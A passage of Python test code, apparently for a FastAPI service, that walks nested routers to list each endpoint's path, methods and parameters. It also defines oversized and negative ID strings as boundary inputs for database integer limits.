            if isinstance(route, _IncludedRouter):
                nested = route.include_context.prefix
                yield from walk(list(route.original_router.routes), prefix + nested)
            elif isinstance(route, APIRoute):
                yield prefix + route.path, route

    found = []
    for path, route in walk(list(app.routes), ""):  # type: ignore[attr-defined]
        names = tuple(dict.fromkeys(params(route.dependant)))
        if names:
            found.append((path, frozenset(route.methods), names))
    return found


# Beyond both databases' integer ranges (PostgreSQL's integer is 32 bits, SQLite's 64, and
# Python's int has none), and below the first id.
OUT_OF_RANGE_IDS = ("999999999999999999999", str(2**63), str(2**31), "-1", "0", "-" + "9" * 30)
